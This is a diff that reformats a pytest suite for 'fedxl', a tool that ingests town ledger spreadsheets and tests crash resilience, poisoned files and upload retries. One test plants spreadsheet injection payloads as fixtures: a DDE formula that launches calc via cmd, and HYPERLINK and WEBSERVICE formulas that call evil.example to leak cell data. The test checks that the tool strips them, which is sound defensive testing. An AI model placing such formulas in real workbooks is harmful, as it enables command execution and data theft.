@@ -20,15 +20,23 @@ from fedxl.submissions import ingest
 from fedxl.workspace import Workspace
 from fedxl.workspace.limits import Limits
 
-pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the worker limits are measured on Linux")
+pytestmark = pytest.mark.skipif(
+    sys.platform != "linux", reason="the worker limits are measured on Linux"
+)
 
 
 def _cli(workspace: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "fedxl", *args, "-w", str(workspace)], capture_output=True,
-                          text=True, timeout=timeout)
+    return subprocess.run(
+        [sys.executable, "-m", "fedxl", *args, "-w", str(workspace)],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+    )
 
 
-@pytest.mark.parametrize("make", [lying_dimension, rows_without_r], ids=["lying-dimension", "rows-without-r"])
+@pytest.mark.parametrize(
+    "make", [lying_dimension, rows_without_r], ids=["lying-dimension", "rows-without-r"]
+)
 def test_check_answers_with_a_finding_never_an_abort(workspace: Path, tmp_path: Path, make) -> None:  # type: ignore[no-untyped-def]
     path = make(tmp_path)
     assert path.stat().st_size < 100_000
@@ -39,7 +47,9 @@ def test_check_answers_with_a_finding_never_an_abort(workspace: Path, tmp_path: 
     files = json.loads(proc.stdout)["files"]
     assert [f["status"] for f in files] == ["unreadable", "accepted"]
     far = [f for f in files[0]["findings"] if f["code"] == "file-too-large"]
-    assert far and "1048576" in far[0]["message"]  # the cell to clear is named, found by walking the cells
+    assert (
+        far and "1048576" in far[0]["message"]
+    )  # the cell to clear is named, found by walking the cells
     assert "memory allocation" not in proc.stderr and "Traceback" not in proc.stderr
 
 
@@ -57,7 +67,7 @@ def _abort() -> None:
 
 
 def _allocate() -> bytes:
-    return b"x" * (4 * 1024 ** 3)
+    return b"x" * (4 * 1024**3)
 
 
 def _spin() -> None:
@@ -96,7 +106,9 @@ def _ledgers(ws: Workspace, folder: Path) -> list[Path]:
     from fedxl.jobs.samples import town_ledger, write_plain_ledger
 
     out = []
-    for seed, town in enumerate(["头道桥街道", "二道河街道", "新华街道", "站前街道", "振兴街道"], start=1):
+    for seed, town in enumerate(
+        ["头道桥街道", "二道河街道", "新华街道", "站前街道", "振兴街道"], start=1
+    ):
         data = town_ledger(ws.form, town, 2026, 6, seed=seed, orgs=4, events=3)
         path = folder / f"{town}6月.xlsx"
         write_plain_ledger(ws.form, data, path)
@@ -105,8 +117,9 @@ def _ledgers(ws: Workspace, folder: Path) -> list[Path]:
 
 
 @pytest.mark.parametrize("workers", [1, 2])
-def test_the_morning_job_records_the_good_files_and_quarantines_the_poison(workspace: Path, tmp_path: Path,
-                                                                           run, workers: int) -> None:  # type: ignore[no-untyped-def]
+def test_the_morning_job_records_the_good_files_and_quarantines_the_poison(
+    workspace: Path, tmp_path: Path, run, workers: int
+) -> None:  # type: ignore[no-untyped-def]
     from fedxl.jobs.run import run_job
     from fedxl.store import Store
 
@@ -130,7 +143,9 @@ def test_the_morning_job_records_the_good_files_and_quarantines_the_poison(works
     assert [p.name for p in inbox.iterdir()] == ["_未处理"]
     log = (ws.workbooks / "fedxl.log").read_text(encoding="utf-8").splitlines()
     assert len(log) == 1 and "返回码 2" in log[0] and "_未处理" in log[0]
-    shutil.copy(aside / "兴隆镇6月.xlsx", inbox / "again.xlsx")  # the same bytes again: known, never read again
+    shutil.copy(
+        aside / "兴隆镇6月.xlsx", inbox / "again.xlsx"
+    )  # the same bytes again: known, never read again
     again = run_job(ws, workers=workers)
     assert [r.duplicate for r in again.batch.results] == [True]
 
@@ -145,7 +160,9 @@ def test_the_poison_alone_leaves_a_log_line(workspace: Path) -> None:
 
 
 @pytest.mark.parametrize("where", [1, 3, 5])
-def test_ingest_api_goes_on_after_a_worker_dies(workspace: Path, tmp_path: Path, where: int) -> None:
+def test_ingest_api_goes_on_after_a_worker_dies(
+    workspace: Path, tmp_path: Path, where: int
+) -> None:
     """Whichever files the other worker finished before the pool broke are reported as recorded
     (not as vanished from the inbox, not as duplicates)."""
     ws = Workspace(workspace)
@@ -161,7 +178,9 @@ def test_ingest_api_goes_on_after_a_worker_dies(workspace: Path, tmp_path: Path,
     batch = ingest(ws, workers=2)
     statuses = [r.report.status for r in batch.results]
     assert statuses.count("accepted") == 5 and statuses[where] == "unreadable", statuses
-    assert all(r.submission_id for r in batch.results) and not any(r.duplicate for r in batch.results)
+    assert all(r.submission_id for r in batch.results) and not any(
+        r.duplicate for r in batch.results
+    )
     assert [p.name for p in inbox.iterdir()] == ["_未处理"]
 
 
@@ -172,7 +191,10 @@ def test_a_feedback_that_cannot_be_made_is_a_finding(workspace: Path, tmp_path: 
     pivots = DATA / "external" / "pivots.xlsx"  # calamine's test file: openpyxl cannot open it
     checked = run("check", str(pivots), str(GOOD), "--annotate", "--json", "-w", str(workspace))
     files = checked.json()["files"]
-    assert [f["status"] for f in files] == ["rejected", "accepted"]  # the batch went on, stdout is JSON
+    assert [f["status"] for f in files] == [
+        "rejected",
+        "accepted",
+    ]  # the batch went on, stdout is JSON
     assert [f["code"] for f in files[0]["findings"]] == ["form-unknown", "feedback-failed"]
     ws = Workspace(workspace)
     batch = ingest(ws, [pivots])
@@ -198,12 +220,20 @@ def test_the_intake_survives_the_poison_and_restarts_at_once(tmp_path: Path) -> 
 
     def send(path: Path):  # type: ignore[no-untyped-def]
         with open(path, "rb") as fh:
-            return httpx.post(server.base + "/api/submissions", headers=auth, timeout=60,
-                              files={"file": (path.name, fh, "application/octet-stream")})
+            return httpx.post(
+                server.base + "/api/submissions",
+                headers=auth,
+                timeout=60,
+                files={"file": (path.name, fh, "application/octet-stream")},
+            )
+
     try:
         bad = send(lying_dimension(tmp_path))
         assert bad.status_code == 200, bad.text
-        assert bad.json()["files"][0]["status"] == "unreadable" and "feedback_url" not in bad.json()["files"][0]
+        assert (
+            bad.json()["files"][0]["status"] == "unreadable"
+            and "feedback_url" not in bad.json()["files"][0]
+        )
         ok = send(good)
         assert ok.status_code == 200 and ok.json()["files"][0]["status"] == "accepted"
         odd = send(DATA / "external" / "pivots.xlsx")  # findings, but no marked copy can be made
@@ -228,7 +258,9 @@ def test_the_intake_survives_the_poison_and_restarts_at_once(tmp_path: Path) -> 
         stop_server(again)
 
 
-def test_a_name_of_sixty_emoji_is_recorded_under_a_bounded_path(workspace: Path, tmp_path: Path) -> None:
+def test_a_name_of_sixty_emoji_is_recorded_under_a_bounded_path(
+    workspace: Path, tmp_path: Path
+) -> None:
     from fedxl.checking import Origin
     from fedxl.store import Store
 
@@ -239,7 +271,9 @@ def test_a_name_of_sixty_emoji_is_recorded_under_a_bounded_path(workspace: Path,
     shutil.copy(ledgers[0], dropped)
     uploaded = tmp_path / "x.upload"
     shutil.copy(ledgers[1], uploaded)
-    batch = ingest(ws, [dropped, uploaded], origins={uploaded: Origin("🙂" * 60 + ".xls", "二道河街道")})
+    batch = ingest(
+        ws, [dropped, uploaded], origins={uploaded: Origin("🙂" * 60 + ".xls", "二道河街道")}
+    )
     assert [r.report.status for r in batch.results] == ["accepted", "accepted"]
     with Store(ws.db_path, ws.form) as store:
         subs = store.submissions()
@@ -260,7 +294,7 @@ def test_feedback_copies_keep_no_live_external_formula(workspace: Path, tmp_path
     roster["R3"] = "=cmd|' /C calc'!A0"
     roster["R4"] = '=HYPERLINK("http://evil.example/?"&B3,"点这里")'
     roster["R5"] = "=SUM(G3:G4)"
-    wb.create_sheet("说明")["A1"] = "=WEBSERVICE(\"http://evil.example/\")"
+    wb.create_sheet("说明")["A1"] = '=WEBSERVICE("http://evil.example/")'
     source = tmp_path / "dde.xlsx"
     wb.save(source)
     ws = Workspace(workspace)
@@ -269,8 +303,13 @@ def test_feedback_copies_keep_no_live_external_formula(workspace: Path, tmp_path
     assert {"R3", "R4"} <= said and "R5" not in said
     out = write_feedback_file(source, report, tmp_path / "fb.xlsx")
     copy = openpyxl.load_workbook(out)
-    formulas = [c.value for sheet in copy.worksheets for row in sheet.iter_rows() for c in row
-                if c.data_type == "f"]
+    formulas = [
+        c.value
+        for sheet in copy.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
     assert formulas == ["=SUM(G3:G4)"]  # the town's own formula stays
     assert copy["妇委会名录"]["R3"].data_type != "f" and copy["说明"]["A1"].data_type != "f"
 
@@ -281,20 +320,35 @@ def test_the_hostile_set_gets_clear_findings(workspace: Path, tmp_path: Path) ->
     from hostile_files import SET
 
     files = [make(tmp_path) for make in SET.values()]
-    proc = _cli(workspace, "check", "--annotate", "--json", *map(str, files), str(GOOD), timeout=240)
+    proc = _cli(
+        workspace, "check", "--annotate", "--json", *map(str, files), str(GOOD), timeout=240
+    )
     assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
     out = json.loads(proc.stdout)["files"]
     codes = [{f["code"] for f in one["findings"] if f["severity"] != "warning"} for one in out]
-    expected = ["file-too-large", "file-too-large", "file-too-large", "file-too-large", "feedback-failed",
-                "file-too-large"]
-    assert [code in got for code, got in zip(expected, codes, strict=False)] == [True] * len(expected), codes
+    expected = [
+        "file-too-large",
+        "file-too-large",
+        "file-too-large",
+        "file-too-large",
+        "feedback-failed",
+        "file-too-large",
+    ]
+    assert [code in got for code, got in zip(expected, codes, strict=False)] == [True] * len(
+        expected
+    ), codes
     assert out[-1]["status"] == "accepted"
-    reasons = [f["message"] for f in out[3]["findings"] + out[2]["findings"] if f["code"] == "file-too-large"]
+    reasons = [
+        f["message"]
+        for f in out[3]["findings"] + out[2]["findings"]
+        if f["code"] == "file-too-large"
+    ]
     assert any("600000" in r for r in reasons) and any("32767" in r for r in reasons)
 
 
-def test_a_failed_intake_batch_is_tried_again_without_a_restart(workspace: Path, tmp_path: Path,
-                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_failed_intake_batch_is_tried_again_without_a_restart(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     pytest.importorskip("starlette")
     from fedxl.checking import Origin
     from fedxl.store import Store
@@ -302,7 +356,9 @@ def test_a_failed_intake_batch_is_tried_again_without_a_restart(workspace: Path,
 
     ws = Workspace(workspace)
     monkeypatch.setattr(intake, "RETRY_SECONDS", (0.2,))
-    monkeypatch.setenv("FEDXL_FAULT", "before_archive:1:oserror")  # the archive cannot be written, once
+    monkeypatch.setenv(
+        "FEDXL_FAULT", "before_archive:1:oserror"
+    )  # the archive cannot be written, once
     monkeypatch.setenv("FEDXL_FAULT_ONCE", str(tmp_path / "fired"))
     folder = intake.uploads_folder(ws)
     upload = folder / "abc.upload"
@@ -321,7 +377,9 @@ def test_a_failed_intake_batch_is_tried_again_without_a_restart(workspace: Path,
         queue.close()
 
 
-def test_an_upload_the_server_stopped_on_three_times_is_set_aside(workspace: Path, tmp_path: Path) -> None:
+def test_an_upload_the_server_stopped_on_three_times_is_set_aside(
+    workspace: Path, tmp_path: Path
+) -> None:
     pytest.importorskip("starlette")
     from fedxl.checking import Origin
     from fedxl.web import intake
@@ -337,7 +395,11 @@ def test_an_upload_the_server_stopped_on_three_times_is_set_aside(workspace: Pat
     intake.count_attempt(fresh)
     assert [p.name for p, _ in intake.left_over(ws)] == ["fresh.upload"]
     aside = folder / intake.UNPROCESSED
-    assert sorted(p.name for p in aside.iterdir()) == ["stuck.json", "stuck.upload", "stuck.原因.txt"]
+    assert sorted(p.name for p in aside.iterdir()) == [
+        "stuck.json",
+        "stuck.upload",
+        "stuck.原因.txt",
+    ]
     assert "stuck.xlsx" in (aside / "stuck.原因.txt").read_text(encoding="utf-8-sig")
 
 
@@ -347,12 +409,24 @@ def test_a_worker_ends_with_the_process_that_started_it(workspace: Path, tmp_pat
 
     inbox = Workspace(workspace).folder("inbox")
     shutil.copy(GOOD, inbox / "a.xlsx")
-    env = {**os.environ, "FEDXL_FAULT": "before_archive:1"}  # the caller dies after the worker checked
-    proc = subprocess.run([sys.executable, "-m", "fedxl", "ingest", "-w", str(workspace), "--workers", "1"],
-                          capture_output=True, text=True, env=env, timeout=60)
+    env = {
+        **os.environ,
+        "FEDXL_FAULT": "before_archive:1",
+    }  # the caller dies after the worker checked
+    proc = subprocess.run(
+        [sys.executable, "-m", "fedxl", "ingest", "-w", str(workspace), "--workers", "1"],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=60,
+    )
     assert proc.returncode == 137
-    readers = [int(p) for p in subprocess.run(["pgrep", "-f", f"fedxl ingest -w {workspace}"], capture_output=True,
-                                              text=True).stdout.split()]
+    readers = [
+        int(p)
+        for p in subprocess.run(
+            ["pgrep", "-f", f"fedxl ingest -w {workspace}"], capture_output=True, text=True
+        ).stdout.split()
+    ]
     deadline = time.monotonic() + 20
     while any(pid_alive(p) for p in readers) and time.monotonic() < deadline:
         time.sleep(0.1)
